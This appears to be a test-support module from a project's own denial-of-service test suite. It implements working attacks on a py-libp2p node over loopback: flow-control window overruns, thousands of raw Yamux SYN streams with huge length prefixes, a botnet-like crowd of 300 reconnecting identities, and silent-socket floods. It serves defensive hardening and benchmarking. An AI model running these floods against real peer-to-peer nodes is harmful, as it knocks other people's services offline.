"""Attacking clients for the resource-exhaustion tests and benchmark (GBR-DOS-01).

Stock py-libp2p parts driven by hand, with no host around them: a TCP dial,
the Noise handshake, Yamux, multistream-select; plus raw sockets. Each
`Intruder` is one connection under a fresh (or given) Ed25519 identity, so
an attack can cost nothing but key generation, as it would for a real one.
Frames can be written past the Yamux flow-control window on purpose.

`FLOODS` names each class of attack as a coroutine function of the target's
`/ip4/.../tcp/N/p2p/ID` that runs until cancelled (tests/e2e/test_dos.py,
scripts/bench/flood.py).
"""

from __future__ import annotations

import contextlib
import socket
import struct
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager

import multiaddr
import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.keys import KeyPair
from libp2p.crypto.x25519 import create_new_key_pair as x25519
from libp2p.custom_types import TProtocol
from libp2p.peer.id import ID
from libp2p.protocol_muxer.multiselect_client import MultiselectClient
from libp2p.protocol_muxer.multiselect_communicator import MultiselectCommunicator
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE_PROTOCOL_ID
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.stream_muxer.yamux.yamux import (
    FLAG_SYN,
    TYPE_DATA,
    YAMUX_HEADER_FORMAT,
    Yamux,
    YamuxStream,
)
from libp2p.stream_muxer.yamux.yamux import (
    PROTOCOL_ID as YAMUX_PROTOCOL_ID,
)
from libp2p.transport.tcp.tcp import TCP
from libp2p.transport.upgrader import TransportUpgrader

from gbr_node.rpc.framing import encode_varint

MCP = "/gbr/mcp/1.0.0"
MIB = 1024 * 1024


class Intruder:
    """One Noise + Yamux connection to a serving node, opened by `intrude()`."""

    def __init__(self, muxed: Yamux, keypair: KeyPair) -> None:
        self.muxed = muxed
        self.keypair = keypair

    @property
    def closed(self) -> bool:
        """True once the serving node (or we) ended the connection."""
        return self.muxed.is_closed or self.muxed.event_shutting_down.is_set()

    async def wait_closed(self) -> None:
        """Return once the connection has ended."""
        while not self.closed:
            await trio.sleep(0.02)

    async def open_stream(self, protocol: str = MCP) -> YamuxStream:
        """A new stream with `protocol` negotiated (multistream-select)."""
        stream = await self.muxed.open_stream()
        await MultiselectClient().select_one_of(
            [TProtocol(protocol)], MultiselectCommunicator(stream), 10
        )
        return stream

    async def write_past_window(self, stream: YamuxStream, data: bytes) -> None:
        """Send `data` on `stream` as DATA frames of 1 MiB, ignoring the peer's window."""
        step = 1024 * 1024
        for start in range(0, len(data), step):
            chunk = data[start : start + step]
            header = struct.pack(YAMUX_HEADER_FORMAT, 0, TYPE_DATA, 0, stream.stream_id, len(chunk))
            await self.muxed._write_frame(header + chunk)

    async def open_raw_streams(self, count: int, payload: bytes) -> None:
        """Open `count` streams with SYN frames that carry `payload` each, negotiating nothing."""
        for _ in range(count):
            stream_id = self.muxed.next_stream_id
            self.muxed.next_stream_id += 2
            header = struct.pack(
                YAMUX_HEADER_FORMAT, 0, TYPE_DATA, FLAG_SYN, stream_id, len(payload)
            )
            await self.muxed._write_frame(header + payload)

    async def refuse_streams(self) -> None:
        """Reset every stream the node opens to us (identify, ...) until cancelled."""
        while True:
            stream = await self.muxed.accept_stream()
            await stream.reset()

    async def aclose(self) -> None:
        try:
            await self.muxed.close()
        except Exception:  # already gone
            return


@asynccontextmanager
async def intrude(
    addr: str, keypair: KeyPair | None = None, source: str | None = None
) -> AsyncIterator[Intruder]:
    """Dial `addr` (`/ip4/.../tcp/N/p2p/ID`), run Noise and Yamux as a fresh identity.

    `source` is the local address to dial from (any 127.x.y.z on loopback).
    The connection runs in a nursery of its own and is closed on exit. Raises
    whatever the dial or the handshake raises (the node may refuse us).
    """
    keypair = keypair or create_new_key_pair()
    maddr = multiaddr.Multiaddr(addr)
    remote = ID.from_base58(maddr.get_peer_id())
    upgrader = TransportUpgrader(
        {NOISE_PROTOCOL_ID: NoiseTransport(keypair, noise_privkey=x25519().private_key)},
        {TProtocol(YAMUX_PROTOCOL_ID): Yamux},
    )
    target = maddr.decapsulate(multiaddr.Multiaddr(f"/p2p/{remote}"))
    raw = await (TCP().dial_with_source(target, (source, 0)) if source else TCP().dial(target))
    try:
        secured = await upgrader.upgrade_security(raw, True, remote)
        muxed = await upgrader.upgrade_connection(secured, remote)
        assert isinstance(muxed, Yamux)  # the only muxer offered above
    except BaseException:
        with trio.CancelScope(shield=True):
            await raw.close()
        raise
    async with trio.open_nursery() as nursery:
        nursery.start_soon(muxed.start)
        await muxed.event_started.wait()
        intruder = Intruder(muxed, keypair)
        try:
            yield intruder
        finally:
            with trio.CancelScope(shield=True), trio.move_on_after(2):
                await intruder.aclose()
            nursery.cancel_scope.cancel()


def tcp_port(addr: str) -> int:
    """The TCP port of a `/ip4/127.0.0.1/tcp/N/...` multiaddr."""
    return int(multiaddr.Multiaddr(addr).value_for_protocol("tcp"))


async def silent_socket(port: int, source: str) -> trio.socket.SocketType:
    """A TCP connection from `source` (any 127.x.y.z) to 127.0.0.1:`port` that sends nothing."""
    sock = trio.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    await sock.bind((source, 0))
    await sock.connect(("127.0.0.1", port))
    return sock


async def hold_silent_sockets(port: int, sources: list[str], per_source: int) -> None:
    """Keep `per_source` silent connections open from each address until cancelled.

    Whenever the node closes one (handshake time limit, eviction), another takes
    its place at once: the flood lasts as long as this task runs.
    """

    async def hold(source: str) -> None:
        while True:
            try:
                sock = await silent_socket(port, source)
            except OSError:
                await trio.sleep(0.01)
                continue
            with sock:
                while await sock.recv(4096):
                    pass

    async with trio.open_nursery() as nursery:
        for source in sources:
            for _ in range(per_source):
                nursery.start_soon(hold, source)


# --- attacks ---------------------------------------------------------------------------------

Attack = Callable[[Intruder], Awaitable[None]]


async def as_stranger(addr: str, attack: Attack) -> None:
    """Run `attack` on a connection of a fresh identity; the node may cut it at any point."""
    with contextlib.suppress(Exception):
        async with intrude(addr) as intruder:
            await attack(intruder)


async def _each(count: int, work: Callable[[], Awaitable[None]]) -> None:
    """`work` `count` times at once; one that fails (the node cut it) leaves the others be."""

    async def quietly() -> None:
        with contextlib.suppress(Exception):
            await work()

    async with trio.open_nursery() as nursery:
        for _ in range(count):
            nursery.start_soon(quietly)


async def big_prefixes(intruder: Intruder) -> None:
    """16 streams, each a 4 MiB length prefix and most of the body, at the window's pace."""

    async def one() -> None:
        stream = await intruder.open_stream()
        await stream.write(encode_varint(4 * MIB))
        for _ in range(63):
            await stream.write(b"x" * 65536)

    await _each(16, one)


async def past_the_window(intruder: Intruder) -> None:
    """4 streams, each a 4 MiB prefix then 32 MiB of DATA frames that ignore the window."""

    async def one() -> None:
        stream = await intruder.open_stream()
        await stream.write(encode_varint(4 * MIB))
        await intruder.write_past_window(stream, b"y" * (32 * MIB))

    await _each(4, one)


async def stream_flood(intruder: Intruder) -> None:
    """2,000 streams opened by SYN frames that each carry 64 KiB, never negotiated."""
    await intruder.open_raw_streams(2000, encode_varint(2**30) + b"z" * 65536)


MEMORY_ATTACKS: dict[str, Attack] = {
    "4 MiB prefixes at the window's pace": big_prefixes,
    "DATA frames past the Yamux window": past_the_window,
    "thousands of streams carrying data": stream_flood,
}


async def strangers(addr: str, attack: Attack, identities: int = 8) -> None:
    """`identities` fresh identities at a time run `attack`, each replaced when it ends."""

    async def one() -> None:
        while True:
            await as_stranger(addr, attack)
            await trio.sleep(0.05)

    async with trio.open_nursery() as nursery:
        for _ in range(identities):
            nursery.start_soon(one)


CROWD_SOURCES = [f"127.0.2.{n}" for n in range(1, 31)]


class Crowd:
    """`count` untrusted identities that stay connected, reconnecting whenever dropped,
    spread over `sources` (local addresses to dial from), as a botnet's would be.

    At most `dialing` of them are in their handshake at once, so that
    connections pile up as they did against stock py-libp2p (issue 13: 250
    idle strangers filled its inbound limit), instead of the handshakes
    crowding each other out.
    """

    def __init__(
        self, addr: str, count: int, sources: list[str] = CROWD_SOURCES, dialing: int = 8
    ) -> None:
        self.addr = addr
        self.count = count
        self.sources = sources
        self.attempts = 0
        self.handshakes = 0
        self._dialing = trio.Semaphore(dialing)

    async def run(self) -> None:
        """Until cancelled."""

        async def stay(source: str) -> None:
            while True:
                self.attempts += 1
                try:
                    async with contextlib.AsyncExitStack() as stack:
                        async with self._dialing:
                            intruder = await stack.enter_async_context(
                                intrude(self.addr, source=source)
                            )
                        self.handshakes += 1
                        await intruder.wait_closed()
                except Exception:
                    await trio.sleep(0.05)

        async with trio.open_nursery() as nursery:
            for n in range(self.count):
                nursery.start_soon(stay, self.sources[n % len(self.sources)])


SILENT_SOURCES = {
    "300 sockets from another address": (["127.0.0.2"], 300),
    "300 sockets from the trusted peer's own address": (["127.0.0.1"], 300),
    "8 sockets from each of 40 addresses": ([f"127.0.1.{n}" for n in range(1, 41)], 8),
}


def _memory_flood(attack: Attack) -> Callable[[str], Awaitable[None]]:
    return lambda addr: strangers(addr, attack)


def _silent_flood(sources: list[str], per_source: int) -> Callable[[str], Awaitable[None]]:
    return lambda addr: hold_silent_sockets(tcp_port(addr), sources, per_source)


FLOODS: dict[str, Callable[[str], Awaitable[None]]] = {
    **{name: _memory_flood(attack) for name, attack in MEMORY_ATTACKS.items()},
    "300 idle untrusted connections from 30 addresses": lambda addr: Crowd(addr, 300).run(),
    **{f"silent TCP, {name}": _silent_flood(*spec) for name, spec in SILENT_SOURCES.items()},
}
